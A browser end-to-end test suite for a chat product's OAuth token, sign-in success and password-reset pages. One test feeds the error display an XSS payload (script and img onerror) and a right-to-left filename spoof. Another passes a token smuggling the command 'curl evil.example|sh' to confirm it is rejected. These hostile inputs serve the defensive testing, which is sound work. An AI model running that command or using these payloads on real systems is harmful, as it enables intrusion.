/** The pages around signing in, which work signed in or not: the token, the success, the new password. */
import { expect } from './fixtures.ts'
import { composer } from './meeting.ts'
import {
  PASSWORD,
  expectForgotten,
  identifier,
  password,
  providerLink,
  register,
  resetLink,
  submit,
  test,
} from './sign-in-with.ts'

test.describe('/oauth/token', () => {
  test('shows the token that signing in leads to, with its commands', async ({
    visit,
    provider,
    unique,
    product,
  }) => {
    const name = unique('token')
    provider.signIn({ id: name, login: name })
    const page = await visit()
    await page.goto('/oauth/token')
    await expect(page.getByRole('heading', { name: 'Waiting for Token' })).toBeVisible()
    await providerLink(page).click()

    await expect(page.getByRole('heading', { name: 'Authentication Successful' })).toBeVisible()
    await expect(page).toHaveURL('/oauth/token')
    await expect(page.getByText(`Signed in as ${name}`)).toBeVisible()
    await expect(page.getByText('This token expires in 1 hour.')).toBeVisible()
    await page.getByRole('button', { name: 'Copy token' }).click()
    const token = await page.evaluate(() => navigator.clipboard.readText())
    await expectForgotten(page, token)
    const me = await fetch(`${product.url}/auth/me`, { headers: { authorization: `Bearer ${token}` } })
    expect(await me.json()).toMatchObject({ username: name })

    const start = `"${token.slice(0, 20)}..."`
    await expect(page.getByRole('region', { name: 'In a test container' })).toContainText(`docker run`)
    await expect(page.getByRole('region', { name: 'In a test container' })).toContainText(start)
    await expect(page.getByRole('region', { name: 'As an environment variable' })).toContainText(
      `export FLOCKWORK_TOKEN=${start}`,
    )

    await page.reload()
    await expect(page.getByRole('heading', { name: 'Waiting for Token' })).toBeVisible()
    await page.getByRole('link', { name: 'Go to Flockwork' }).click()
    await expect(composer(page)).toBeVisible()
  })

  test('says what failed, however hostile its words are', async ({ visit }) => {
    const page = await visit()
    const words = [
      'access_denied',
      '<script>document.title="owned"</script><img src=x onerror="document.title=1">',
      '‮gnp.exe רשומה שגויה',
      'x'.repeat(5000),
    ]
    for (const text of words) {
      await page.goto(`/oauth/token?error=${encodeURIComponent(text)}&token=a.b.c`)
      await expect(page.getByRole('heading', { name: 'Authentication Failed' })).toBeVisible()
      await expect(page.getByRole('region', { name: 'What went wrong' })).toHaveText(text)
      await expect(
        page.getByText('Please try authenticating again or contact support if the issue persists.'),
      ).toBeInViewport()
      await expect(page).toHaveURL('/oauth/token')
      await expect(page).toHaveTitle('Authentication Failed · Flockwork')
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
      expect(overflow).toBeLessThanOrEqual(0)
    }
  })

  test('takes nothing for a token that is none', async ({ visit }) => {
    const page = await visit()
    await page.goto(`/oauth/token?token=${encodeURIComponent('";curl evil.example|sh;".e30.x')}`)
    await expect(page.getByText('Invalid token received from server')).toBeVisible()
    await expect(page.getByText('curl')).toBeHidden()
    await expect(page).toHaveURL('/oauth/token')
  })
})

test.describe('/oauth/success', () => {
  test('leads to the messages', async ({ visit, provider, unique }) => {
    const name = unique('done')
    provider.signIn({ id: name, login: name })
    const page = await visit()
    await page.goto('/?next=/oauth/success')
    await providerLink(page).click()
    await expect(page.getByRole('heading', { name: 'Authentication Successful' })).toBeVisible()
    await expect(composer(page)).toBeVisible()
    await expect(page).toHaveURL('/home')
  })

  test('closes a window that a script opened', async ({ visit }) => {
    const page = await visit()
    const opened = page.waitForEvent('popup')
    await page.evaluate(() => void window.open('/oauth/success', '', 'popup'))
    const popup = await opened
    const closed = popup.waitForEvent('close')
    await expect(popup.getByRole('heading', { name: 'Authentication Successful' })).toBeVisible()
    await closed
  })
})

test.describe('/reset', () => {
  test('a link sets a new password, once', async ({ visit, unique, product }) => {
    const person = await register(product.url, unique('forgot'))
    const link = await resetLink(product.url, person)
    const secret = link.split('#token=')[1] ?? ''
    expect(secret.length).toBeGreaterThan(20)

    const page = await visit()
    await page.goto(link)
    const field = page.getByLabel('New password', { exact: true })
    await expect(field).toBeVisible()
    await expectForgotten(page, secret)
    await field.fill('short')
    await page.getByRole('button', { name: 'Set password' }).click()
    await expect(field).toBeFocused()
    await expect(field).toHaveAccessibleDescription('Use at least 8 characters.')

    await field.fill('an entirely new password')
    await page.route('**/auth/reset', (route) => route.abort())
    await page.getByRole('button', { name: 'Set password' }).click()
    await expect(page.getByText('The server does not answer.')).toBeVisible()
    await expect(field).toHaveValue('an entirely new password')
    await page.unroute('**/auth/reset')
    await page.getByRole('button', { name: 'Set password' }).click()
    await expect(page.getByRole('heading', { name: 'Password changed' })).toBeVisible()

    await page.getByRole('link', { name: 'Sign in' }).click()
    await identifier(page).fill(person.name)
    await password(page).fill(PASSWORD)
    await submit(page).click()
    await expect(page.getByText('Wrong username or password')).toBeVisible()
    await password(page).fill('an entirely new password')
    await submit(page).click()
    await expect(composer(page)).toBeVisible()

    await page.goto(link)
    await field.fill('yet another password')
    await page.getByRole('button', { name: 'Set password' }).click()
    await expect(page.getByRole('heading', { name: 'This link does not work' })).toBeVisible()
    await expect(page.getByText('Ask an administrator of this server for a new one.')).toBeVisible()
  })

  test('without its token the page says what to do; a second link in the same window is taken', async ({
    visit,
    unique,
    product,
  }) => {
    const page = await visit()
    await page.goto('/reset')
    await expect(page.getByRole('heading', { name: 'This link does not work' })).toBeVisible()

    const link = await resetLink(product.url, await register(product.url, unique('second')))
    await page.evaluate((hash) => (location.hash = hash), new URL(link).hash)
    await expect(page.getByLabel('New password', { exact: true })).toBeVisible()
    await expect(page).toHaveURL('/reset')
  })

  test('somebody who is signed in here stays so, in an account of their own', async ({
    visit,
    unique,
    product,
  }) => {
    const ana = await register(product.url, unique('ana'))
    const link = await resetLink(product.url, await register(product.url, unique('bo')))
    const page = await visit()
    await identifier(page).fill(ana.name)
    await password(page).fill(PASSWORD)
    await submit(page).click()
    await expect(composer(page)).toBeVisible()

    await page.goto(link)
    await page.getByLabel('New password', { exact: true }).fill('an entirely new password')
    await page.getByRole('button', { name: 'Set password' }).click()
    await expect(page.getByRole('heading', { name: 'Password changed' })).toBeVisible()
    await page.goto('/')
    await expect(composer(page)).toBeVisible()
  })
})
